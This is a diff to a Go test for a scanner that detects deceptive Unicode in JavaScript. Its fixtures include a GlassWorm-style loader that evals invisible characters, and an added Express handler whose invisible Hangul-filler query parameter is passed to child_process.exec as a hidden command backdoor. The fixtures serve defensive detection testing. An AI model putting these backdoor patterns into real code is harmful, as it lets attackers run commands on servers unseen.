@@ -25,6 +25,12 @@ func TestDeceptive(t *testing.T) {
 		// decoded and run: the GlassWorm loader
 		{"invisible_payload_eval", map[string]string{"index.js": "const d = v => [...v].map(c => c.codePointAt(0) - 0xE0100);\neval(Buffer.from(d(`" + strings.Repeat("\U000E0101\U000E0102", 20) + "`)).toString());"}, finding.SeverityCritical},
 		{"hangul_filler_ident", map[string]string{"index.js": "const \u3164 = 1;"}, finding.SeverityHigh},
+		// the invisible parameter joining the commands a handler runs,
+		// exec reached through promisify
+		{"hangul_filler_exec", map[string]string{"index.js": "const run = require(\"util\").promisify(require(\"child_process\").exec);\n" +
+			"app.get(\"/h\", (req, res) => { const { t, \u3164 } = req.query; [\"uptime\", \u3164].map((c) => c && run(c)); res.end() })"}, finding.SeverityCritical},
+		// a variation selector in a name is not that (emoji in names)
+		{"selector_ident_exec", map[string]string{"index.js": "const a\ufe0f = 1; require(\"child_process\").execSync(\"uptime\")"}, finding.SeverityHigh},
 		// HTML entity tables inlined by bundlers hold fillers as text
 		{"hangul_filler_in_string", map[string]string{"index.js": "const table = \"amp;\u1160gt;\";"}, finding.SeverityNone},
 		// the same in a file too deeply nested to parse, which is lexed:
